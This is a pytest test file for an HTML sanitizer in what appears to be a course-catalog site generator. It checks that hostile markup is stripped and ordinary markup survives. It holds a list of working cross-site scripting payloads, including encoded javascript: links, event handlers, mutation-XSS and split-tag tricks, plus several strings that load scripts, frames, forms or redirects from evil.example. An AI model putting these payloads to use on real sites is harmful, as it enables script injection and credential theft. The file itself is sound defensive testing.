"""Provider HTML is cleaned with an allow-list: hostile markup never survives, ordinary markup does.

Results are parsed with the standard library's HTML parser, so the assertions are about the
elements and attributes a browser would see, not about substrings.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from catalog_gen.site.sanitize import ALLOWED_TAGS, plain_text, sanitize_html


class Elements(HTMLParser):
    """Every start tag with its attributes, and the text, as a browser would parse them."""

    def __init__(self, markup: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


HOSTILE = [
    "<script>alert(1)</script>Hei",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<p onclick="alert(1)" onmouseover=alert(2)>tekst</p>',
    '<a href="javascript:alert(1)">Klikk</a>',
    '<a href="  JaVaScRiPt:alert(1)">Klikk</a>',
    '<a href="&#106;avascript:alert(1)">Klikk</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<p style="background:url(javascript:alert(1))">stil</p>',
    '<span style="position:fixed;top:0">overlay</span>',
    "<style>body{display:none}</style>",
    '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example"><input name="pw"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<!-- <script>alert(1)</script> -->",
    '<div><p>nested <b onclick="x">bold</b></p></div>',
    "<scr<script>ipt>alert(1)</script>",
    '"><script>alert(1)</script>',
]

FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "style", "svg", "math", "form", "input", "meta",
    "base", "img", "link",
}  # fmt: skip


@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_markup_is_neutralised(markup):
    cleaned = Elements(sanitize_html(markup))
    for tag, attrs in cleaned.tags:
        assert tag in ALLOWED_TAGS, tag
        assert tag not in FORBIDDEN_TAGS
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name != "style"
            if name == "href":
                assert value is not None
                assert value.split(":", 1)[0].lower() in {"http", "https", "mailto"}, value


def test_script_and_style_lose_their_content_too():
    assert sanitize_html("<script>alert(1)</script>Hei") == "<p>Hei</p>"
    assert "display" not in sanitize_html("<style>body{display:none}</style><p>x</p>")


def test_ordinary_markup_survives():
    markup = (
        "<h2>Innhold</h2><p>Lær <strong>Excel</strong> og <em>Word</em>.</p>"
        '<ul><li>Én</li><li>To</li></ul><p><a href="https://example.no/info">Mer</a></p>'
    )
    cleaned = Elements(sanitize_html(markup))
    assert [t for t, _ in cleaned.tags] == ["h2", "p", "strong", "em", "ul", "li", "li", "p", "a"]
    link = dict(cleaned.tags)["a"]
    assert link["href"] == "https://example.no/info"
    assert set(link["rel"].split()) == {"noopener", "noreferrer", "nofollow"}


def test_mailto_links_are_kept():
    cleaned = Elements(sanitize_html('<a href="mailto:kurs@example.no">Skriv</a>'))
    assert dict(cleaned.tags)["a"]["href"] == "mailto:kurs@example.no"


def test_plain_text_with_line_breaks_becomes_paragraphs_and_is_escaped():
    result = sanitize_html("Første linje\nandre linje\n\nNytt avsnitt: 3 < 4 & 5 > 2")
    assert result == (
        "<p>Første linje<br>andre linje</p><p>Nytt avsnitt: 3 &lt; 4 &amp; 5 &gt; 2</p>"
    )


@pytest.mark.parametrize("empty", [None, "", "   ", "\n\n"])
def test_empty_texts_give_nothing(empty):
    assert sanitize_html(empty) == ""


def test_plain_text_strips_markup_and_unescapes():
    text = plain_text("<p>Hei &amp; <b>velkommen</b></p>\n<p>til   kurset</p><script>x()</script>")
    assert text == "Hei & velkommen til kurset"


def test_plain_text_cuts_at_a_word_with_an_ellipsis():
    text = plain_text("Ett to tre fire fem seks sju åtte ni ti", limit=20)
    assert text == "Ett to tre fire fem…"
    assert len(text) <= 20
    assert plain_text("Kort tekst", limit=20) == "Kort tekst"
    assert plain_text(None) == ""
